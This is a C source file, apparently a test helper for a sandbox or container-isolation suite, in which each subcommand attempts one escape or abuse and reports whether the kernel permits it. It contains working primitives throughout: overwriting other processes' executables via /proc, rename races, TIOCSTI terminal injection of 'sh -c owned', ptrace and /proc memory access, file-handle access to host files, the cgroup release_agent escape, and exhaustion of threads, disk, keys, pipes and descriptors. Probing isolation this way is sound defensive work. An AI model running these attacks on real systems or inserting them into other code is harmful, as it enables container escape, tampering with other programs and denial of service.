/* What hostile tasks do, one attack a name; each says how far it came. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *outcome(long result) {
    return result >= 0 ? "possible" : strerrorname_np(errno);
}

/* Whether this is a file that we can see under its name: ours to write, as soon as nobody runs it. */
static int in_sight(int held, const char *link) {
    char name[4096];
    struct stat seen, named;
    ssize_t length = readlink(link, name, sizeof name - 1);
    if (length < 0) return 0;
    name[length] = 0;
    return !stat(name, &named) && !fstat(held, &seen) && seen.st_dev == named.st_dev && seen.st_ino == named.st_ino;
}

/* S1: the program of everybody who comes by, if it is not of our own root, opened for writing. */
static void executables(int rounds) {
    int opened = 0, written = 0, seen = 0;
    while (rounds--) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            char path[300];
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            seen++;
            int held = open(path, O_PATH | O_CLOEXEC);
            if (held >= 0) {
                char again[64];
                snprintf(again, sizeof again, "/proc/self/fd/%d", held);
                int fd = in_sight(held, again) ? -1 : open(again, O_WRONLY | O_CLOEXEC);
                if (fd >= 0) {
                    opened++;
                    written += write(fd, "#!/owned\n", 9) > 0;
                    close(fd);
                }
                close(held);
            }
        }
        if (processes) closedir(processes);
    }
    printf("%s opened %d written %d\n", seen ? "seen" : "blind", opened, written);
}

/* S20 and its kin: two names change places as fast as they can. */
static void exchange(const char *one, const char *other) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
}

static void session_keyring(const char *action, const char *name) {
    if (!strcmp(action, "id")) printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
    if (!strcmp(action, "add")) printf("%s\n", outcome(syscall(SYS_add_key, "user", name, "secret", 6, KEY_SPEC_SESSION_KEYRING)));
    if (!strcmp(action, "find")) printf("%s\n", outcome(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0)));
}

static void identity(void) {
    char line[256];
    printf("uid %d euid %d", getuid(), geteuid());
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "CapEff:\t", 8)) printf(" capabilities %.16s", line + 8);
    printf("\n");
}

/* S13: input for whoever reads the terminal, through a pair of our own and through whatever terminal we have. */
static void terminal(void) {
    char letter = 'x';
    int own = open("/dev/tty", O_RDWR | O_CLOEXEC);
    printf("controlling terminal: %s\n", outcome(own));
    if (own >= 0) printf("TIOCSTI into it: %s\n", outcome(ioctl(own, TIOCSTI, &letter)));
    setsid();
    int main_end = posix_openpt(O_RDWR | O_NOCTTY), unlocked = 0;
    ioctl(main_end, TIOCSPTLCK, &unlocked);
    int number = 0;
    ioctl(main_end, TIOCGPTN, &number);
    char path[32];
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    int terminal = open(path, O_RDWR | O_NOCTTY);
    printf("terminal of its own: %s\n", outcome(terminal));
    ioctl(terminal, TIOCSCTTY, 0);
    printf("TIOCSTI: %s\n", outcome(ioctl(terminal, TIOCSTI, &letter)));
    printf("TIOCSTI with high bits: %s\n", outcome(syscall(SYS_ioctl, terminal, 0x100000000L | TIOCSTI, &letter)));
}

static void *idle(void *unused) {
    pause();
    return unused;
}

/* S46 */
static void threads(int wanted) {
    int made = 0;
    pthread_attr_t small;
    pthread_t thread;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    while (made < wanted && !pthread_create(&thread, &small, idle, NULL)) made++;
    printf("%d\n", made);
}

/* S36: a file of the host by its number, from any file of that file system. */
static void handle(const char *from) {
    struct { struct file_handle handle; unsigned char bytes[128]; } found = {.handle.handle_bytes = 128};
    int mount, anchor = open(from, O_RDONLY | O_CLOEXEC);
    printf("name_to_handle_at: %s\n", outcome(name_to_handle_at(AT_FDCWD, from, &found.handle, &mount, 0)));
    printf("open_by_handle_at: %s\n", outcome(open_by_handle_at(anchor, &found.handle, O_RDONLY)));
}

/* S40 */
static void spy(int pid) {
    char byte;
    struct iovec here = {&byte, 1}, there = {&byte, 1};
    char path[64];
    printf("ptrace: %s\n", outcome(ptrace(PTRACE_SEIZE, pid, 0, 0)));
    printf("process_vm_readv: %s\n", outcome(process_vm_readv(pid, &here, 1, &there, 1, 0)));
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    printf("mem: %s\n", outcome(open(path, O_RDWR)));
    snprintf(path, sizeof path, "/proc/%d/fd/1", pid);
    printf("fd: %s\n", outcome(open(path, O_RDONLY)));
    snprintf(path, sizeof path, "/proc/%d/root/etc", pid);
    printf("root: %s\n", outcome(open(path, O_RDONLY)));
}

/* S33, S34: a program of the host that the kernel would start when a cgroup becomes empty. */
static void release_agent(const char *program) {
    printf("unshare: %s\n", outcome(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
    printf("directory: %s\n", outcome(mkdir("/tmp/cg", 0755)));
    const char *controllers[] = {"memory", "pids", "freezer", "devices", "rdma"};
    for (int at = 0; at < 5; at++) {
        if (mount("none", "/tmp/cg", "cgroup", 0, controllers[at])) {
            printf("mount %s: %s\n", controllers[at], outcome(-1));
            continue;
        }
        int fd = open("/tmp/cg/release_agent", O_WRONLY);
        printf("mount %s: possible, release_agent: %s\n", controllers[at], fd < 0 ? outcome(-1) : outcome(write(fd, program, strlen(program))));
        int notify = open("/tmp/cg/notify_on_release", O_WRONLY);
        if (notify >= 0) (void)!write(notify, "1", 1);
        umount("/tmp/cg");
    }
}

/* S47: memory that belongs to no process. */
static void fill(const char *path, int megabytes) {
    static char block[1 << 20];
    int fd = open(path, O_CREAT | O_WRONLY, 0600), done = 0;
    memset(block, 1, sizeof block);
    while (done < megabytes && write(fd, block, sizeof block) == sizeof block) done++;
    printf("%d\n", done);
}

/* S48: as much as one user gets of what the kernel counts by user, and as many descriptors as there are. Holds all of it. */
static void exhaust(void) {
    int instances = 0, keys = 0, pipes = 0, descriptors = 0, epoll = epoll_create1(EPOLL_CLOEXEC), pair[2];
    char name[64];
    struct epoll_event event = {.events = EPOLLIN};
    while (inotify_init1(IN_CLOEXEC) >= 0) instances++;
    for (; keys < 10000; keys++) {
        snprintf(name, sizeof name, "key-%d", keys);
        if (syscall(SYS_add_key, "user", name, "secret", 6, KEY_SPEC_PROCESS_KEYRING) < 0) break;
    }
    for (; pipes < 200 && !pipe2(pair, O_CLOEXEC); pipes++) fcntl(pair[0], F_SETPIPE_SZ, 1 << 20);
    for (int fd; (fd = eventfd(0, EFD_CLOEXEC)) >= 0; descriptors++) epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
    printf("instances %d keys %d pipes %d descriptors %d, then %s\n", instances, keys, pipes, descriptors, outcome(eventfd(0, EFD_CLOEXEC)));
    pause();
}

/* S13: what is put into the terminal comes to who reads it, which is this very program, if the kernel lets it. */
static void push(const char *text) {
    char line[256] = "";
    int own = open("/dev/tty", O_RDWR | O_CLOEXEC);
    long result = 0;
    for (const char *at = text; *at && result >= 0; at++) result = ioctl(own, TIOCSTI, at);
    printf("TIOCSTI: %s\n", outcome(result));
    if (result >= 0 && fgets(line, sizeof line, stdin)) printf("read back: %s", line);
}

int main(int count, char **arguments) {
    const char *attack = count > 1 ? arguments[1] : "", *first = count > 2 ? arguments[2] : "", *second = count > 3 ? arguments[3] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(attack, "executables")) executables(atoi(first));
    if (!strcmp(attack, "exchange")) exchange(first, second);
    if (!strcmp(attack, "keyring")) session_keyring(first, second);
    if (!strcmp(attack, "identity")) identity();
    if (!strcmp(attack, "terminal")) terminal();
    if (!strcmp(attack, "threads")) threads(atoi(first));
    if (!strcmp(attack, "handle")) handle(first);
    if (!strcmp(attack, "spy")) spy(atoi(first));
    if (!strcmp(attack, "release")) release_agent(first);
    if (!strcmp(attack, "fill")) fill(first, atoi(second));
    if (!strcmp(attack, "exhaust")) exhaust();
    if (!strcmp(attack, "push")) push("sh -c owned\n");
    if (!strcmp(attack, "crash")) abort();
    return 0;
}
